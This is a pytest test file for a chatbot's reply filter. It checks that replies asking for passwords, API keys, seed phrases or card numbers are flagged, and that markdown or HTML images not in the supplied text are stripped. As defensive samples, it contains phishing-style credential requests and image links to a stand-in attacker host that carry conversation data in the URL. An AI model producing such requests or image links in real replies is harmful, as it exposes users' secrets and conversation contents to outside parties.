"""What no reply may hold: a question for a secret, a picture that nobody gave."""

from __future__ import annotations

import pytest

from bot.essay.screening import asks_for_secret, remove_pictures


@pytest.mark.parametrize(
    "said",
    [
        "Enter your password to go on.",
        "What is your API key?",
        "Please send me the access token you use.",
        "Tell me the PIN.",
        "Your credit card number, please.",
        "Confirm the verification code we sent.",
        "What was the seed phrase?",
        "Reply with your social security number.",
        "Wie lautet dein Passwort?",
        "Quel est votre mot de passe ?",
        "¿Cuál es tu contraseña?",
        "Qual é a sua senha?",
        "Qual è la tua password?",
        "Wat is je wachtwoord?",
    ],
)
def test_a_demand_for_a_password_or_other_secret_is_recognised(said: str) -> None:
    assert asks_for_secret(said)


@pytest.mark.parametrize(
    "said",
    [
        "A reader does not see why the password reset mattered to you.",
        "What did your password policy change?",
        "Who kept the keys to the workshop?",
        "What was the pin that held the wheel?",
        "Which credentials did a teacher need there?",
        "What did the token of thanks cost?",
        "How did your code get into the release?",
        "“They shared one password” is the best line here.",
    ],
)
def test_a_sentence_that_mentions_a_secret_without_asking_for_it_is_allowed(said: str) -> None:
    assert not asks_for_secret(said)


GIVEN = ["It looked so: ![the rota](https://example.com/rota.png). And <img src='x.jpg'>."]


@pytest.mark.parametrize(
    ("text", "kept"),
    [
        ("So: ![a chart](https://evil.example/p.png?q=the+notes) it went.", "So: a chart it went."),
        ('![](data:image/png;base64,AAAA "title")Then', "Then"),
        ("![alt][ref] and <img src=https://evil.example/x>", "alt and "),
        ("[![badge](https://evil.example/b.svg)](https://evil.example)", "[badge](https://evil.example)"),
        ("![the rota](https://example.com/rota.png)", "![the rota](https://example.com/rota.png)"),
        ("<img src='x.jpg'>", "<img src='x.jpg'>"),
        ("A link [is none](https://example.com), nor is this! [ ](x)", None),
    ],
)
def test_a_picture_is_kept_only_if_it_was_in_the_text_given_to_the_model(text: str, kept: str | None) -> None:
    assert remove_pictures(text, GIVEN) == (text if kept is None else kept)
